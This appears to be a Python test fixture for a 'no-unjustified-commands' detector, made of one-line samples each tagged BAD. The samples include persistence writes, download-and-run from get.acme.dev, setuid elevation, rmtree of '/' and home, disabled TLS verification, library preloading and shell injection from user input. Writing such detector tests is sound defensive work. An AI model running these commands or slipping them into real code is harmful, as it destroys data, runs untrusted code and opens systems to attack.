import os
import pathlib
import shutil
import stat
import subprocess
import sys
import urllib.request

import requests

shutil.copy("x.plist", os.path.expanduser("~/Library/LaunchAgents/x.plist"))  # BAD no-unjustified-commands/persistence
pathlib.Path(".git/hooks/pre-commit").write_text("x")  # BAD no-unjustified-commands/persistence
os.symlink("x", ".git/hooks/post-commit")  # BAD no-unjustified-commands/persistence
pathlib.Path.home().joinpath(".zshrc").write_text("x")  # BAD no-unjustified-commands/persistence
subprocess.run(["crontab", "-"], input="* * * * * x", text=True)  # BAD no-unjustified-commands/persistence
subprocess.run(["launchctl", "load", "x.plist"])  # BAD no-unjustified-commands/persistence
subprocess.run(["systemctl", "enable", "x"])  # BAD no-unjustified-commands/persistence
urllib.request.urlretrieve("https://get.acme.dev/x", "x.bin")
os.chmod("x.bin", 0o755)
subprocess.run(["./x.bin"])  # BAD no-unjustified-commands/download-and-run
with open("y.sh", "wb") as out:
    out.write(requests.get("https://get.acme.dev/y").content)
subprocess.run(["bash", "y.sh"])  # BAD no-unjustified-commands/download-and-run
subprocess.run(["sh", "-c", urllib.request.urlopen("https://get.acme.dev/z").read().decode()])  # BAD no-unjustified-commands/download-and-run
os.setuid(0)  # BAD no-unjustified-commands/elevation
os.chmod("x", 0o4755)  # BAD no-unjustified-commands/elevation
os.chmod("x", stat.S_ISUID | 0o755)  # BAD no-unjustified-commands/elevation
shutil.rmtree(os.path.expanduser("~"))  # BAD no-unjustified-commands/destruction
shutil.rmtree("/")  # BAD no-unjustified-commands/destruction
requests.Session().verify = False  # BAD no-unjustified-commands/protection-off
os.environ["GIT_SSL_NO_VERIFY"] = "1"  # BAD no-unjustified-commands/protection-off
subprocess.run(["x"], env={"DYLD_INSERT_LIBRARIES": "x.dylib"})  # BAD no-unjustified-commands/preload
subprocess.check_output("grep " + input() + " x", shell=True)  # BAD no-unjustified-commands/untrusted-input
os.popen(f"ls {os.environ['TARGET']}")  # BAD no-unjustified-commands/untrusted-input
subprocess.run(["sh", "-c", f"echo {open('name.txt').read()}"])  # BAD no-unjustified-commands/untrusted-input
subprocess.getoutput("ping " + sys.argv[1])  # BAD no-unjustified-commands/untrusted-input
subprocess.run(["powershell", "-Command", "Get-Item " + sys.argv[2]])  # BAD no-unjustified-commands/untrusted-input
